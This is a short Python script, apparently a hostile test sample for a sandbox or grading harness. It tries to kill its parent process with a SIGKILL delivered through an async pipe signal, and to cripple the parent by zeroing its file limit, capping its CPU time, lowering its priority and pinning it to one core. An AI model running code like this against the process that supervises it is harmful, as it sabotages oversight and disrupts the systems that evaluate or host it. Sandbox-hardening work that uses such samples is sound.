"""Has the kernel send a signal to its parent when a pipe can be read, and lowers the parent's limits."""
import fcntl
import os
import resource
import signal

from wrong import Wrong

reading, writing = os.pipe()
for attempt in (
    lambda: fcntl.fcntl(reading, 10, signal.SIGKILL),
    lambda: fcntl.fcntl(reading, fcntl.F_SETOWN, os.getppid()),
    lambda: fcntl.fcntl(reading, fcntl.F_SETFL, os.O_ASYNC),
    lambda: os.write(writing, b"x"),
    lambda: resource.prlimit(os.getppid(), resource.RLIMIT_NOFILE, (0, 0)),
    lambda: resource.prlimit(os.getppid(), resource.RLIMIT_CPU, (1, 1)),
    lambda: os.setpriority(os.PRIO_PROCESS, os.getppid(), 19),
    lambda: os.sched_setaffinity(os.getppid(), {0}),
):
    try:
        attempt()
    except OSError as error:
        print(error)


class ReLULayer(Wrong):
    pass
